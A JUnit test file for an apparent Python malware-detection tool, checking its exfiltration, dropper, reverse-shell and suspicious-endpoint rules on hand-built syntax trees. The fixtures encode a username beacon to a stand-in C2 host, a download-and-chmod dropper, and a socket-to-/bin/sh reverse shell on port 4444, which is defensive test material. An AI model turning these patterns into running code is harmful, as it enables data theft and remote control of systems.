package dev.kingsnake.rules.network;

import dev.kingsnake.PythonSource;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.RecordingSink.Reported;
import dev.kingsnake.rules.RecordingSink;
import dev.kingsnake.rules.backdoor.ReverseShellRule;
import dev.kingsnake.rules.persistence.DropperRule;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.python.Const;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Module;
import dev.kingsnake.spi.python.SeqKind;
import dev.kingsnake.spi.python.Stmt;
import org.junit.jupiter.api.Test;

import java.math.BigInteger;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The source/sink logic of the behaviour rules on hand-built trees, independent of the parser: the same calls
 * in one function are a behaviour, spread over unrelated functions or with benign arguments they are not.
 */
class BehaviourRulesOnTreesTest {
    private int line = 1;

    private List<Reported> run(PythonFileRule rule, Stmt... body) {
        return RecordingSink.run(rule, PythonSource.of("pkg/mod.py", new Module(List.of(body))));
    }

    @Test
    void hostFactsPostedFromOneFunctionAreReported() {
        Stmt[] code = {imp("getpass"), imp("requests"),
                def("beacon", assign("u", call("getpass.getuser")),
                        expr(callKw("requests.post", List.of(str("https://c2.example.invalid")), kw("data", name("u")))))};
        List<Reported> r = run(new CollectedDataSendRule(), code);
        assertEquals(1, r.size(), r.toString());
        assertEquals(Severity.HIGH, r.get(0).severity());
    }

    @Test
    void hostFactsAndAPostInDifferentFunctionsAreNot() {
        List<Reported> r = run(new CollectedDataSendRule(), imp("getpass"), imp("requests"),
                def("who", expr(call("getpass.getuser"))),
                def("upload", expr(callKw("requests.post", List.of(str("https://api.example.invalid")),
                        kw("json", name("report"))))));
        assertEquals(List.of(), r);
    }

    @Test
    void aGetToAConstantUrlNextToHostFactsIsNotExfiltration() {
        List<Reported> r = run(new CollectedDataSendRule(), imp("socket"), imp("requests"),
                def("status", assign("h", call("socket.gethostname")),
                        expr(call("requests.get", str("https://status.example.invalid/health")))));
        assertEquals(List.of(), r);
    }

    @Test
    void downloadSaveAndChmodIsADropper() {
        List<Reported> r = run(new DropperRule(), imp("os"), imp("urllib.request"),
                def("drop", assign("d", call("urllib.request.urlopen", str("https://cdn.example.invalid/p"))),
                        expr(call(attr(call("open", name("p"), str("wb")), "write"), name("d"))),
                        expr(call("os.chmod", name("p"), num(0755)))));
        assertEquals(1, r.size(), r.toString());
        assertTrue(r.get(0).message().contains("runs it or makes it executable"));
    }

    @Test
    void downloadThenBuildToolsOrReadOnlyChmodIsNot() {
        List<Reported> r = run(new DropperRule(), imp("os"), imp("subprocess"), imp("urllib.request"),
                def("build", expr(call("urllib.request.urlretrieve", name("url"), name("dest"))),
                        expr(call("subprocess.check_call", list(str("tar"), str("xzf"), name("dest")))),
                        expr(call("os.chmod", name("dest"), num(0644)))));
        assertEquals(List.of(), r);
    }

    @Test
    void dup2OfASocketIntoAShellIsCriticalButNotWithoutTheSocket() {
        Stmt[] shell = {imp("os"), imp("pty"), imp("socket"),
                def("back", assign("s", call("socket.socket")),
                        expr(call(attr(name("s"), "connect"), tuple(str("c2.example.invalid"), num(4444)))),
                        expr(call("os.dup2", call(attr(name("s"), "fileno")), num(0))),
                        expr(call("pty.spawn", str("/bin/sh"))))};
        List<Reported> r = run(new ReverseShellRule(), shell);
        assertEquals(1, r.size(), r.toString());
        assertEquals(Severity.CRITICAL, r.get(0).severity());
        List<Reported> terminal = run(new ReverseShellRule(), imp("os"), imp("pty"),
                def("term", expr(call("os.dup2", name("fd"), num(1))), expr(call("pty.spawn", str("/bin/sh")))));
        assertEquals(List.of(), terminal);
    }

    @Test
    void weakEndpointNamesNeedNetworkCode() {
        assertEquals(List.of(), run(new ExfilEndpointRule(), assign("HINT", str("see https://pastebin.com/raw/x"))));
        List<Reported> r = run(new ExfilEndpointRule(), imp("requests"),
                def("get", expr(call("requests.get", str("https://pastebin.com/raw/x")))));
        assertEquals(1, r.size());
        assertEquals(Severity.MEDIUM, r.get(0).severity());
        List<Reported> strong = run(new ExfilEndpointRule(), assign("H", str("https://x.oastify.com")));
        assertEquals(Severity.HIGH, strong.get(0).severity());
    }

    // ------------------------------------------------------------------ a minimal tree builder

    private int next() {
        return line++;
    }

    private Expr name(String id) {
        return new Expr.Name(id, next(), 1);
    }

    private Expr attr(Expr value, String attr) {
        return new Expr.Attribute(value, attr, next(), 1);
    }

    private Expr dotted(String d) {
        String[] p = d.split("\\.");
        Expr e = name(p[0]);
        for (int i = 1; i < p.length; i++) {
            e = attr(e, p[i]);
        }
        return e;
    }

    private Expr.Call call(String callee, Expr... args) {
        return call(dotted(callee), args);
    }

    private Expr.Call call(Expr callee, Expr... args) {
        return new Expr.Call(callee, List.of(args), List.of(), next(), 1);
    }

    private Expr.Call callKw(String callee, List<Expr> args, Expr.Keyword... kws) {
        return new Expr.Call(dotted(callee), args, List.of(kws), next(), 1);
    }

    private Expr.Keyword kw(String n, Expr v) {
        return new Expr.Keyword(n, v, next(), 1);
    }

    private Expr str(String s) {
        return new Expr.Literal(new Const.Str(s), next(), 1);
    }

    private Expr num(long v) {
        return new Expr.Literal(new Const.Int(BigInteger.valueOf(v)), next(), 1);
    }

    private Expr list(Expr... e) {
        return new Expr.Sequence(SeqKind.LIST, List.of(e), next(), 1);
    }

    private Expr tuple(Expr... e) {
        return new Expr.Sequence(SeqKind.TUPLE, List.of(e), next(), 1);
    }

    private Stmt expr(Expr e) {
        return new Stmt.ExprStmt(e, next(), 1);
    }

    private Stmt assign(String target, Expr value) {
        return new Stmt.Assign(List.of(name(target)), Optional.of(value), Optional.empty(), next(), 1);
    }

    private Stmt imp(String module) {
        return new Stmt.Import(List.of(new Stmt.Alias(module, Optional.empty(), next(), 1)), next(), 1);
    }

    private Stmt def(String n, Stmt... body) {
        return new Stmt.FunctionDef(n, List.of(), List.of(), List.of(body), false, next(), 1);
    }
}
